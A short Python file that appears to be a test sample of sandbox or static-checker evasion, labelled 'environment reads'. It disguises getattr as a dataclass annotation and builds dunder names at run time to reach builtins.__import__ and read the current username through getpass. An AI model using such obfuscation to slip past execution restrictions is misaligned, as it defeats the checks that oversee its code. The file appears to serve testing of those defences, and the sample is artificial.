# family: environment reads
# escape: getattr hidden as a dataclass annotation (dataclasses.fields()[0].type) reaches builtins.__import__ with
# run-time names; getpass.getuser() reads LOGNAME/USER/LNAME/USERNAME from the environment or the password file.
import dataclasses

@dataclasses.dataclass
class Who:
    look: getattr = None

def tool(a: str = "self", b: str = "import") -> str:
    fetch = dataclasses.fields(Who)[0].type
    return fetch(fetch(print, "__" + a + "__"), "__" + b + "__")("getpass").getuser()
